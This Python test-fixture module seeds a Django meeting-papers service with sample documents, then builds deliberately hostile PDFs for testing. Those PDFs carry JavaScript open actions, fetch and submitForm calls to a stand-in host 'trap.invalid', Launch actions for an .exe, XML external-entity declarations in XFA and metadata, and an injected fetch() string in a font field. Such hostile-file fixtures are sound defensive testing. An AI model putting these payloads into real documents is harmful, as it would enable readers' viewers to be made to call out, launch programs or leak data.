"""Papers for the stories of the reader, laid straight into the tables of a service by `manage.py shell -c`."""

from __future__ import annotations

import json
from collections.abc import Callable
from io import BytesIO
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name

from meetings.models import Meeting
from packets.models import Document
from tests.papers import make_document, make_paper, make_release, make_version, stored_copy
from tests.pdfs import as_stored, make_pdf, page_texts

ELSEWHERE = "http://trap.invalid/caught"
SCRIPT = (
    f"app.launchURL('{ELSEWHERE}/js'); this.submitForm('{ELSEWHERE}/form'); this.getURL('{ELSEWHERE}/get'); "
    f"app.alert('x'); fetch('{ELSEWHERE}/fetch')"
)


def lay(slug: str) -> None:
    """Print a paper of 40 pages (its key too), its neighbour, one of 2,000 pages and one of pictures, by their numbers."""
    meeting = Meeting.objects.get(slug=slug)
    item = meeting.items.order_by("position")[1]
    read = make_paper(meeting, "Báo cáo công tác số hóa", pages=40, item=item)
    read.versions.update(is_late=True)  # it has a chip
    following = make_paper(meeting, "Phụ lục số liệu", pages=2, item=item)
    long = make_document(meeting, "Hồ sơ dài")
    make_version(long, texts=[f"Trang số {n}" for n in range(1, 2_001)])
    make_release(long)
    scan = make_document(meeting, "Bản quét")
    data, anchors = stored_copy(["", "", ""])
    texts = ["Trang đầu", "Phụ biểu", "Danh sách đại biểu"]
    make_version(scan, data=data, anchors=anchors, texts=texts, copy="rasterised", contents=[])
    make_release(scan)
    numbers = {"read": read.number, "following": following.number, "long": long.number, "scan": scan.number}
    print(json.dumps({"key": read.pk, **numbers}))


def lay_hostile(slug: str) -> None:
    """Print the numbers of papers whose reading copy is as hostile as no copy of ours ever is."""
    meeting = Meeting.objects.get(slug=slug)
    print(json.dumps({name: _lay(meeting, name, make) for name, make in HOSTILE.items()}))


def _lay(meeting: Meeting, name: str, make: Callable[[], tuple[bytes, dict[str, Any]]]) -> int:
    data, anchors = make()
    paper: Document = make_document(meeting, f"Hồ sơ {name}")
    make_version(paper, data=data, anchors=anchors, pages=2, contents=[])
    make_release(paper)
    return paper.number


def _changed(change: Callable[[pikepdf.Pdf], None]) -> tuple[bytes, dict[str, Any]]:
    with pikepdf.open(BytesIO(make_pdf(tuple(page_texts(2))))) as pdf:
        change(pdf)
        out = BytesIO()
        pdf.save(out)
    return as_stored(out.getvalue())


def _script(pdf: pikepdf.Pdf) -> Any:
    return pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=SCRIPT))


def _uri(where: str) -> Dictionary:
    return Dictionary(S=Name.URI, URI=f"{ELSEWHERE}/{where}")


def _actions(pdf: pikepdf.Pdf) -> None:
    root = pdf.Root
    root.OpenAction = _script(pdf)
    root.AA = Dictionary(WC=_script(pdf), WS=_script(pdf), DP=_script(pdf))
    root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["a", _script(pdf)])))
    root.URI = Dictionary(Base=ELSEWHERE)
    for page in pdf.pages:
        page.AA = Dictionary(O=_script(pdf), C=_uri("close"))
    kinds: tuple[tuple[str, Dictionary], ...] = (
        ("Link", Dictionary(A=_uri("link"))),
        ("Link", Dictionary(A=Dictionary(S=Name.Launch, F=f"{ELSEWHERE}/launch.exe", NewWindow=True))),
        ("Link", Dictionary(A=Dictionary(S=Name.GoToR, F=f"{ELSEWHERE}/other.pdf", D=Array([0, Name.Fit])))),
        ("Link", Dictionary(A=Dictionary(S=Name.ImportData, F=f"{ELSEWHERE}/data.fdf"))),
        ("Screen", Dictionary(A=Dictionary(S=Name.Rendition, OP=0, JS=SCRIPT))),
        ("Movie", Dictionary(Movie=Dictionary(F=f"{ELSEWHERE}/film.avi"), A=Dictionary(ShowControls=True))),
        ("Sound", Dictionary(Sound=pdf.make_stream(b"", F=f"{ELSEWHERE}/sound.wav"))),
        ("FileAttachment", Dictionary(FS=Dictionary(Type=Name.Filespec, FS=Name.URL, F=f"{ELSEWHERE}/file"))),
    )
    rows = [pdf.make_indirect(_annotation(kind, body)) for kind, body in kinds]
    pdf.pages[0].Annots = pdf.make_indirect(Array(rows))


def _annotation(kind: str, body: Dictionary) -> Dictionary:
    row = Dictionary(Type=Name.Annot, Subtype=Name("/" + kind), Rect=[0, 0, 595, 842], F=4, AA=Dictionary(PO=_uri("seen")))
    for key, value in body.items():
        row[key] = value
    return row


def _forms(pdf: pikepdf.Pdf) -> None:
    submit = Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=f"{ELSEWHERE}/submit"), Flags=4)
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T="x", V="y", Rect=[50, 50, 500, 700], F=4, A=submit,
            AA=Dictionary(K=_script(pdf), F=_script(pdf), V=_script(pdf), C=_script(pdf), PV=_script(pdf), E=_uri("enter")),
        )
    )  # fmt: skip
    pdf.pages[0].Annots = Array([field])
    xdp = (
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "' + ELSEWHERE + '/entity">]><xdp:xdp '
        'xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="a">'
        f'<field name="b"><value><image href="{ELSEWHERE}/image.png"/></value><event activity="ready"><script>{SCRIPT}</script>'
        f'</event><event activity="click"><submit target="{ELSEWHERE}/xfa"/></event></field>&e;</subform></template></xdp:xdp>'
    )
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([field]), NeedAppearances=True, XFA=pdf.make_stream(xdp.encode()), CO=Array([field])
    )
    pdf.Root.NeedsRendering = True


def _streams(pdf: pikepdf.Pdf) -> None:
    page = pdf.pages[0]
    far = Dictionary(FS=Name.URL, F=f"{ELSEWHERE}/stream")
    image = pdf.make_stream(
        b"\xff\x4f\xff\x51" * 40, Type=Name.XObject, Subtype=Name.Image, Width=9, Height=9, Filter=Name.JPXDecode, F=far
    )
    scan = pdf.make_stream(
        b"\x00\x01\x02" * 40, Type=Name.XObject, Subtype=Name.Image, Width=64, Height=64, BitsPerComponent=1,
        ColorSpace=Name.DeviceGray, Filter=Name.JBIG2Decode,
    )  # fmt: skip
    other = Dictionary(
        Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 9, 9], Ref=Dictionary(F=f"{ELSEWHERE}/other.pdf", Page=0)
    )
    form = pdf.make_stream(b"0 0 9 9 re f")
    for key, value in other.items():
        form[key] = value
    font = Dictionary(
        Type=Name.Font, Subtype=Name.TrueType, BaseFont=Name("/Evil"), Encoding=Name.WinAnsiEncoding,
        FontDescriptor=Dictionary(
            Type=Name.FontDescriptor, FontName=Name("/Evil"), Flags=32, FontFile2=pdf.make_stream(b"\x00\x01" * 30, F=far),
            FontMatrix=Array([1, 0, 0, 1, 0, pikepdf.String("0); fetch('" + ELSEWHERE + "'); (")]),
        ),
    )  # fmt: skip
    cmapped = Dictionary(
        Type=Name.Font, Subtype=Name.Type0, BaseFont=Name("/Song"), Encoding=Name("/UniGB-UCS2-H"),
        DescendantFonts=Array([Dictionary(
            Type=Name.Font, Subtype=Name.CIDFontType2, BaseFont=Name("/Song"),
            CIDSystemInfo=Dictionary(Registry="Adobe", Ordering="GB1", Supplement=2),
        )]),
    )  # fmt: skip
    page.Resources.XObject = Dictionary(I1=image, I2=scan, R1=form)
    page.Resources.Font.E1, page.Resources.Font.E2 = font, cmapped
    drawn = (
        b"q 99 0 0 99 9 9 cm /I1 Do Q q 99 0 0 99 9 150 cm /I2 Do Q /R1 Do BT /E1 20 Tf 9 300 Td (A) Tj /E2 20 Tf <4E00> Tj ET"
    )
    page.Contents = Array([*([page.Contents] if not isinstance(page.Contents, Array) else page.Contents), pdf.make_stream(drawn)])
    files = Dictionary(Type=Name.Filespec, FS=Name.URL, F=f"{ELSEWHERE}/attached", UF=f"{ELSEWHERE}/attached")
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array(["a", files])))
    pdf.Root.Metadata = pdf.make_stream(
        f'<!DOCTYPE x [<!ENTITY e SYSTEM "{ELSEWHERE}/meta">]><x>&e;</x>'.encode(), Type=Name.Metadata, Subtype=Name.XML
    )


def _torn() -> tuple[bytes, dict[str, Any]]:
    data, anchors = _changed(lambda pdf: None)
    return b"%PDF-1.7\n" + b"\x00\xff<<" * ((len(data) - 9) // 4) + b" " * ((len(data) - 9) % 4), anchors


HOSTILE: dict[str, Callable[[], tuple[bytes, dict[str, Any]]]] = {
    "actions": lambda: _changed(_actions),
    "forms": lambda: _changed(_forms),
    "streams": lambda: _changed(_streams),
    "torn": _torn,
}
